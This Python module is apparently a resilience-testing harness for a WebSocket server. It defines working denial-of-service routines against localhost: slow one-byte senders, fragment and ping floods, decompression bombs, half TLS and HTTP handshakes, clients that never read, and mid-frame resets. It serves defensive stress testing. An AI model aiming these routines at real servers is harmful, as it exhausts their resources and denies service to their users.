"""What hostile peers do to a server, each as a generator that goes on at every `next`.

Plain blocking sockets, and frames with a key of zeros, which costs an attacker nothing.
"""

import socket
import ssl
import struct
import threading
import time
import zlib
from collections import Counter
from itertools import count, cycle

CONTINUATION, TEXT, CLOSE, PING = 0x0, 0x1, 0x8, 0x9
TIMEOUT = 5  # seconds
SOURCES = 16  # addresses of 127.1.0.0/16 that the attackers connect from
UPGRADE = (
    b"GET /attack HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
)
SUBSCRIBE = UPGRADE.replace(b"/attack", b"/")


class Attacker:
    """Open connections, keep them, and count how the server ended them."""

    def __init__(self, port, tls_port):
        self.port, self.tls_port = port, tls_port
        self.verdicts = Counter()
        self._number = count(1)
        self._pause = threading.Event()

    def connect(self, first=b"", *, port=None, read_buffer=None):
        """Return a new socket that has sent `first`."""
        peer = socket.socket()
        for timeout in (socket.SO_RCVTIMEO, socket.SO_SNDTIMEO):
            peer.setsockopt(socket.SOL_SOCKET, timeout, struct.pack("ll", TIMEOUT, 0))
        if read_buffer:
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, read_buffer)
        peer.bind((f"127.1.0.{next(self._number) % SOURCES + 1}", 0))
        peer.connect(("127.0.0.1", port or self.port))
        peer.sendall(first)
        return peer

    def open(self, first=b"", request=UPGRADE, **settings):
        """Return a WebSocket connection that has sent `first` with its request."""
        peer = self.connect(request + first, **settings)
        head = b""
        while b"\r\n\r\n" not in head:
            byte = peer.recv(1)  # no more: what follows is for `verdict`
            if not byte:
                raise ConnectionError(f"the server refused a good handshake: {head}")
            head += byte
        return peer

    def send(self, peer, data):
        """Send, and drop what has come; tell whether the connection is still there."""
        try:
            peer.sendall(data)
            answer = peer.recv(1 << 20, socket.MSG_DONTWAIT)
        except BlockingIOError:
            return True  # nothing has come, or the server does not read
        except OSError as error:
            self.end(peer, failed=error)
            return False
        if answer and not verdict(answer):
            return True
        self.end(peer, answer)
        return False

    def end(self, peer, answer=b"", failed=None):
        """Close a connection, and count what the server said at its end."""
        deadline = time.monotonic() + TIMEOUT
        try:
            while not verdict(answer) and time.monotonic() < deadline:
                data = peer.recv(1 << 20)
                if not data:
                    break
                answer = answer[-200:] + data
        except OSError as error:
            failed = failed or error
        self.verdicts[verdict(answer) or (type(failed).__name__ if failed else "closed")] += 1
        peer.close()

    def wait(self, seconds):
        self._pause.wait(seconds)


def verdict(answer):
    """Return the status or the close code at the end of what the server has sent."""
    if answer.startswith(b"HTTP/1.1 ") and answer[9:12] != b"101":
        return answer[9:12].decode()
    for size in range(2, 126):  # the reason may follow the code
        if answer[-size - 2 : -size] == bytes([0x80 | CLOSE, size]):
            return str(int.from_bytes(answer[-size:][:2]))
    return ""


def frame(opcode, payload=b"", *, fin=True, compressed=False):
    first, size = fin << 7 | compressed << 6 | opcode, len(payload)
    if size < 126:
        return struct.pack("!BB4x", first, 0x80 | size) + payload
    if size < 0x10000:
        return struct.pack("!BBH4x", first, 0xFE, size) + payload
    return struct.pack("!BBQ4x", first, 0xFF, size) + payload


def deflated(data):
    compressor = zlib.compressobj(9, wbits=-15)
    return (compressor.compress(data) + compressor.flush(zlib.Z_SYNC_FLUSH))[:-4]


def keep(attacker, number, make, step=None):
    """Hold `number` connections from `make`; replace those that the server ends."""
    peers = []
    while True:
        for _ in range(number):
            if len(peers) < number:
                peers.append(make())
            else:
                peer = peers.pop(0)
                if attacker.send(peer, step() if step else b""):
                    peers.append(peer)
            yield
        if step is None:
            attacker.wait(0.1)


# The attacks


def busy_neighbour(attacker):
    """No attack: what it costs that the clients share their core."""
    while True:
        sum(range(1000))
        yield


def one_byte_a_second(attacker):
    start = frame(TEXT, bytes(100_000))[:14]
    steps = keep(attacker, 1000, lambda: attacker.open(start), lambda: b"x")
    while True:
        until = time.monotonic() + 1
        for _ in range(1000):
            next(steps)
            yield
        attacker.wait(max(until - time.monotonic(), 0))


def one_byte_at_a_time(attacker):
    start = frame(TEXT, bytes(100_000))[:14]
    return keep(attacker, 200, lambda: attacker.open(start), lambda: b"x")


def tiny_fragments(attacker):
    start = frame(TEXT, b"x", fin=False)
    more = frame(CONTINUATION, b"x", fin=False) * 9000
    return keep(attacker, 4, lambda: attacker.open(start), lambda: more)


def never_the_rest(attacker):
    part = frame(TEXT, b"x" * 16384, fin=False)
    return keep(attacker, 1000, lambda: attacker.open(part))


def pings(attacker):
    many = frame(PING, b"ping") * 1000
    return keep(attacker, 10, attacker.open, lambda: many)


def tiny_messages(attacker):
    many = frame(TEXT, b"!") * 1000
    return keep(attacker, 10, attacker.open, lambda: many)


def compressed_rubbish(attacker):
    rubbish = frame(TEXT, b"\xff" * 1000, compressed=True)
    while True:
        attacker.end(attacker.open(rubbish))
        yield


def bombs(attacker):
    """950 MiB in 1 MB, of which the server must inflate no more than its limit."""
    compressor = zlib.compressobj(9, wbits=-15)
    megabyte = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    bomb = frame(TEXT, megabyte * 950, compressed=True)
    while True:
        peer = attacker.open()
        if attacker.send(peer, bomb):
            attacker.end(peer)
        yield


def small_bombs(attacker):
    """Messages of 1 MB in 1 kB, none over the limit."""
    bomb = frame(TEXT, deflated(b"!" * 1_000_000), compressed=True)
    return keep(attacker, 4, attacker.open, lambda: bomb)


def half_tls_handshakes(attacker):
    outgoing = ssl.MemoryBIO()
    try:
        ssl.create_default_context().wrap_bio(
            ssl.MemoryBIO(), outgoing, server_hostname="localhost"
        ).do_handshake()
    except ssl.SSLWantReadError:
        hello = outgoing.read()
    # The second kind has the server do its part before it waits for theirs.
    hellos = cycle((hello[: len(hello) // 2], hello))
    return keep(attacker, 500, lambda: attacker.connect(next(hellos), port=attacker.tls_port))


def never_reads(attacker):
    while True:
        peers = [attacker.open(request=SUBSCRIBE, read_buffer=4096) for _ in range(20)]
        for _ in range(30):
            attacker.wait(0.1)
            yield
        for peer in peers:
            attacker.end(peer)


def resets(attacker):
    half = frame(TEXT, bytes(10_000))[:5000]
    while True:
        peer = attacker.open(half)
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        peer.close()
        yield


def half_handshakes(attacker):
    return keep(attacker, 5000, lambda: attacker.connect(UPGRADE[:40]))


def http_requests(attacker):
    while True:
        attacker.end(attacker.connect(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"))
        yield


ATTACKS = {
    "a busy neighbour, no attack": busy_neighbour,
    "1,000 send one byte a second": one_byte_a_second,
    "200 send one byte at a time": one_byte_at_a_time,
    "4 send fragments of one byte": tiny_fragments,
    "1,000 fragments and no rest": never_the_rest,
    "10 send pings": pings,
    "10 send tiny messages": tiny_messages,
    "compressed rubbish": compressed_rubbish,
    "bombs, 1 MB of 1 GB": bombs,
    "small bombs, 1 kB of 1 MB": small_bombs,
    "500 half TLS handshakes": half_tls_handshakes,
    "20 never read": never_reads,
    "resets inside a frame": resets,
    "5,000 half handshakes": half_handshakes,
    "plain HTTP requests": http_requests,
}
